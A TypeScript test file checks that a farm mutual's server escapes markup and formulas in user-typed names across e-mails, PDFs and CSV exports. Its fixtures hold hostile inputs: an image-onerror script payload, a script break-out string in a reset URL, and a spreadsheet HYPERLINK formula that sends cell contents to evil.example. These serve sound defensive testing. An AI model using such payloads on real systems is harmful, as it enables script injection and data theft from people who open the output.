/**
 * On the server: text a person typed stays text in every e-mail, PDF and CSV
 * the server makes. Each document is made through its real route or builder from names carrying
 * markup and formulas, and read back the way a mail client, PDF reader or spreadsheet would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MUTUAL } from '../lib/email-layout';
import { htmlString } from '../lib/html';
import type { MailMessage } from '../lib/mailer';
import { createTestUser, waitForEmailTo, signedInAgent, type TestAgent } from '../testing/accounts';
import { extractPdfText } from '../testing/pdf-text';
import { quotePdfText } from '../testing/quote-pdf-text';
import { createTestApp, type TestApp } from '../testing/test-app';
import { addressInUseEmail, emailChangeCodeEmail, passwordResetEmail, referrerWelcomeEmail, verificationCodeEmail } from './accounts/mail-templates';
import { queueClaimNotice } from './claims/claims.service';
import { createApplication } from '../testing/dashboard-fixtures';
import { applicationConfirmationEmail, callbackRequestStaffEmail } from './protection/mail-templates';
import { binaryBody } from '../testing/binary-body';

const MARKUP = '<b id="x">Top</b><img/src="x"/onerror="window.__pwned=1">';
const MARKUP_ESCAPED = '&lt;b id=&quot;x&quot;&gt;Top&lt;/b&gt;&lt;img/src=&quot;x&quot;/onerror=&quot;window.__pwned=1&quot;&gt;';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
const AWKWARD = 'North, "top"\nfield';

let t: TestApp;
let member: TestAgent;
let memberId: string;

beforeAll(async () => {
  t = await createTestApp();
  memberId = (await createTestUser(t.db, { email: 'markup@example.com', firstName: MARKUP, lastName: FORMULA })).id;
  member = await signedInAgent(t.app, 'markup@example.com');
});
afterAll(() => t.close());

/** The HTML part of a message as nodemailer wrote it (quoted-printable undone by waitForEmailTo). */
function htmlPartOf(eml: string): string {
  const start = eml.indexOf('Content-Type: text/html');
  expect(start).toBeGreaterThan(-1);
  const body = eml.slice(eml.indexOf('\n\n', start) + 2);
  return body.slice(0, body.indexOf('\n----'));
}

describe('e-mails', () => {
  it('escapes markup in every template’s HTML body and keeps it as typed in the text body', () => {
    const messages: MailMessage[] = [
      verificationCodeEmail({ to: 'a@example.com', firstName: MARKUP, code: '123456', validMinutes: 10 }),
      emailChangeCodeEmail({ to: 'a@example.com', firstName: MARKUP, code: '123456', validMinutes: 10 }),
      addressInUseEmail({ to: 'a@example.com', firstName: MARKUP, signInUrl: 'https://grainmutual.example/auth/signin', staffEmail: 'members@grainmutual.example' }),
      passwordResetEmail({ to: 'a@example.com', firstName: MARKUP, url: 'https://grainmutual.example/auth/reset-password?token="><script>', validMinutes: 60 }),
      referrerWelcomeEmail({ to: 'a@example.com', firstName: MARKUP, organisation: MARKUP, code: 'REF1', url: 'https://grainmutual.example/x', validFor: '7 days' }),
      callbackRequestStaffEmail({
        to: 'staff@example.com',
        id: 'cb1',
        request: {
          reason: MARKUP,
          timePreference: 'morning',
          customTime: null,
          description: MARKUP,
          userInfo: { email: 'a@example.com', firstName: MARKUP, lastName: 'Smith', phone: '0400 000 000' },
          estimateData: null,
        },
      }),
    ];
    for (const message of messages) {
      const body = htmlString(message.html);
      expect(body).toContain(MARKUP_ESCAPED);
      expect(body).not.toContain('<b id="x">');
      expect(body).not.toContain('<img');
      expect(body).not.toContain('"><script>');
      expect(message.text).toContain(MARKUP);
    }
  });

  it('escapes the application confirmation’s figures and names', () => {
    const message = applicationConfirmationEmail({
      to: 'a@example.com',
      firstName: MARKUP,
      reference: 'APP-2026-00001',
      application: {
        id: 'app1',
        coverageType: 'hail',
        seasonYear: 2026,
        zoneCode: MARKUP,
        paddocks: [],
        coveredArea: 1,
        insuredValue: 1,
        premium: 1,
        displayedPremium: 1,
        totalPayable: 1,
        estimate: { membershipFee: 1 },
      } as never,
    });
    expect(htmlString(message.html).split(MARKUP_ESCAPED)).toHaveLength(3);
    expect(htmlString(message.html)).not.toContain('<b id="x">');
  });

  it('escapes a contact message in the copy e-mailed to staff', async () => {
    const response = await member.post('/api/form-submissions').send({ type: 'contact', name: 'Jan Mackie', email: 'jan@example.com', phone: '', message: `Hello ${MARKUP}\nsecond line`, website: '' });
    expect(response.status).toBe(201);
    const html = htmlPartOf(await waitForEmailTo(t.env.MAIL_OUTBOX_DIR, t.env.STAFF_EMAIL));
    expect(html).toContain(`Hello ${MARKUP_ESCAPED}<br>second line`);
    expect(html).not.toContain('<b id="x">');
    expect(html).toContain(MUTUAL.notInsurance);
  });

  it('escapes the member’s name and staff’s message in a claim notification', async () => {
    const emailId = await queueClaimNotice({ writer: t.db, mailer: t.context.mailer }, { userId: memberId, reference: 'CLM-0001', id: 'claim1' }, { message: MARKUP });
    await t.context.mailer.dispatch(emailId!);
    const html = htmlPartOf(await waitForEmailTo(t.env.MAIL_OUTBOX_DIR, 'markup@example.com'));
    expect(html).toContain(`<p>Hello ${MARKUP_ESCAPED},</p>`);
    expect(html).toContain(`<p>${MARKUP_ESCAPED}</p>`);
    expect(html).not.toContain('<b id="x">');
    expect(html).toContain(MUTUAL.notInsurance);
  });
});

describe('PDFs', () => {
  it('draws a paddock and a person named with markup as those characters in the quote PDF', async () => {
    const text = await quotePdfText({ firstName: MARKUP, lastName: 'Smith', email: 'a@example.com' }, MARKUP);
    expect(text).toContain(MARKUP);
  });

  it('draws the member’s name and paddock names literally in the protection summary', async () => {
    const application = await createApplication(t.db, memberId, { status: 'accepted' });
    await t.db.protectionPaddock.updateMany({ where: { applicationId: application.id, sectionId: 's1' }, data: { name: MARKUP } });
    const response = await member.get(`/api/dashboard/protections/${application.id}/summary.pdf`).buffer(true).parse(binaryBody);
    expect(response.status).toBe(200);
    const text = await extractPdfText(response.body as Buffer);
    // A long name may wrap: compare with the line breaks of the layout taken out.
    const joined = text.replace(/\s+/g, ' ');
    expect(joined).toContain(MARKUP.replace(/\s+/g, ' '));
    expect(joined).toContain(FORMULA);
  });
});

describe('CSV', () => {
  it('writes paddock names with formulas, quotes, commas and line breaks as text cells', async () => {
    const application = await createApplication(t.db, memberId, { status: 'active', seasonYear: 2027 });
    await t.db.protectionPaddock.updateMany({ where: { applicationId: application.id, sectionId: 's1' }, data: { name: FORMULA } });
    await t.db.protectionPaddock.updateMany({ where: { applicationId: application.id, sectionId: 's2' }, data: { name: AWKWARD } });
    const response = await member.get('/api/reports/season.csv?season=2027');
    expect(response.status).toBe(200);
    expect(response.text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",wheat,`);
    expect(response.text).toContain(`,"North, ""top""\nfield",canola,`);
    expect(response.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
